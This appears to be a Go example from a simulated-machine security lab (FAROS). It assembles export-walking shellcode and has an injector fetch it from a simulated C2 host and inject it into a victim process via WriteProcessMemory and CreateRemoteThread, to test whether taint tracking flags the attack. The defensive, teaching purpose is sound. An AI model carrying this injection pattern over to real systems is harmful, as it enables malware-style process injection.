// Shellcode lab: author an injected payload in FAROS-32 *text assembly*
// (the same source format `cmd/farosasm` accepts), assemble it, deliver it
// over the simulated network into a victim, and inspect what FAROS records
// — including the taint map showing exactly where the network bytes ended
// up across the whole system.
//
//	go run ./examples/shellcode_lab
package main

import (
	"context"
	"fmt"
	"os"

	"faros/internal/core"
	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/samples"
	"faros/internal/scenario"
)

// payloadSource is classic export-walking shellcode, in text form. It
// resolves MessageBoxA by hash from the kernel export table and calls it.
const payloadSource = `
; FAROS-32 shellcode: resolve MessageBoxA via export table walk, pop a box.
entry:
  MOV ECX, 0x7FF00000      ; kernel export table base
  LD  EDX, [ECX]           ; entry count        <-- tagged read
  MOV ESI, 0
scan:
  CMP ESI, EDX
  JGE fail
  MOV EAX, ESI
  SHL EAX, 3
  ADD EAX, ECX
  LD  EDI, [EAX+4]         ; candidate hash     <-- tagged read
  CMP EDI, EBP             ; EBP = target hash (set by loader stub)
  JZ  found
  ADD ESI, 1
  JMP scan
found:
  LD  EDI, [EAX+8]         ; function pointer   <-- tagged read
  CALL msgref
msgref:
  POP EBX                  ; EBX = address of msgref (the POP itself)
  ADD EBX, 48              ; skip the 6 instructions between msgref and msg
  CALL EDI
fail:
  MOV EBX, 0
  MOV EDI, 0x7FE00000      ; ExitProcess stub (fixed address)
  CALL EDI
msg:
  .ascii "assembled from text source"
`

type c2 struct{ payload []byte }

func (e c2) OnConnect(gnet.Flow) []gnet.Reply {
	return []gnet.Reply{{DelayInstr: 400, Data: e.payload}}
}
func (e c2) OnData(gnet.Flow, []byte) []gnet.Reply { return nil }

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "shellcode_lab:", err)
		os.Exit(1)
	}
}

func run() error {
	// 1. Assemble the text source. The hash of MessageBoxA is patched into
	// EBP by a tiny prologue we prepend programmatically (mixing the two
	// toolchain layers).
	body, err := isa.Parse(payloadSource)
	if err != nil {
		return err
	}
	bodyCode, err := body.Assemble(0)
	if err != nil {
		return err
	}
	pro := isa.NewBlock()
	pro.Movi(isa.EBP, peimg.HashName("MessageBoxA"))
	proCode, err := pro.Assemble(0)
	if err != nil {
		return err
	}
	payload := append(proCode, bodyCode...)
	fmt.Printf("assembled %d bytes of shellcode from text source:\n%s...\n",
		len(payload), isa.DisasmBytes(payload[:40], 0))

	// 2. Victim + injector via the sample toolkit.
	spec := samples.Spec{
		Name:     "shellcode_lab",
		MaxInstr: 4_000_000,
		Endpoints: []samples.EndpointSpec{
			{Addr: samples.AttackerAddr, Endpoint: c2{payload: payload}},
		},
	}
	spec.Programs = []samples.Program{
		victim("taskmgr.exe"),
		injector("loader.exe", "taskmgr.exe", uint32(len(payload))),
	}
	spec.AutoStart = []string{"taskmgr.exe", "loader.exe"}

	res, err := scenario.RunLiveContext(context.Background(), spec, scenario.Plugins{Faros: &core.Config{}}, nil)
	if err != nil {
		return err
	}
	for _, mb := range res.MessageBoxes {
		fmt.Println("guest message box:", mb)
	}
	fmt.Println()
	fmt.Print(res.Faros.Report())

	// 3. The taint map: where network bytes ended up, system-wide.
	fmt.Println()
	fmt.Print(res.Faros.RenderTaintMap())

	// 4. The packet capture the kernel kept.
	fmt.Println("\npacket capture:")
	for _, p := range res.Kernel.PacketLog {
		fmt.Println(" ", p)
	}
	if !res.Flagged() {
		return fmt.Errorf("attack not flagged")
	}
	return nil
}

func victim(name string) samples.Program {
	b := peimg.NewBuilder(name)
	b.Text.Label("pump")
	b.Text.Movi(isa.EBX, 250)
	b.CallImport("Sleep")
	b.Text.Jmp("pump")
	return mustBuild(b, name)
}

func injector(name, victimName string, n uint32) samples.Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("victim").DataString(victimName)
	b.DataBlk.Label("ip").DataString(samples.AttackerAddr.IP)
	buf := b.BSS(4096)
	b.CallImport("Socket")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, b.MustDataVA("ip"))
	b.Text.Movi(isa.EDX, uint32(samples.AttackerAddr.Port))
	b.CallImport("Connect")
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, buf)
	b.Text.Movi(isa.EDX, n)
	b.CallImport("Recv")
	b.Text.Movi(isa.EBX, b.MustDataVA("victim"))
	b.CallImport("FindProcessA")
	b.Text.Mov(isa.EBX, isa.EAX)
	b.CallImport("OpenProcess")
	b.Text.Mov(isa.EBP, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, n)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Push(isa.EAX)
	b.Text.Mov(isa.ECX, isa.EAX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.Text.Movi(isa.EDX, buf)
	b.Text.Movi(isa.ESI, n)
	b.CallImport("WriteProcessMemory")
	b.Text.Pop(isa.ECX)
	b.Text.Mov(isa.EBX, isa.EBP)
	b.CallImport("CreateRemoteThread")
	b.Text.Movi(isa.EBX, 0)
	b.CallImport("ExitProcess")
	return mustBuild(b, name)
}

func mustBuild(b *peimg.Builder, name string) samples.Program {
	raw, err := b.BuildBytes()
	if err != nil {
		panic(err)
	}
	return samples.Program{Path: name, Bytes: raw}
}
